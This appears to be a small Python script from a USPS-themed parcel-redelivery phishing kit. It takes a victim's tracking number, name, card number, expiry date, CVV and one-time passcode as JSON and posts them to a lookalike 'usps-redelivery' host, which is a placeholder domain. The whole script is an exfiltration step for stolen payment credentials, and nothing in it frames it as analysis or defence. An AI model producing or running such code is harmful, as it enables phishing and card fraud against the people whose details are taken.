import json, sys, urllib.request
# usage: submit.py '{"tracking":..., "name":..., "card":..., "exp":..., "cvv":..., "otp":...}'
data = json.loads(sys.argv[1])
req = urllib.request.Request("https://usps-redelivery.parcel-hold.invalid/api/v2/confirm",
                             data=json.dumps(data).encode(), headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=10).status)
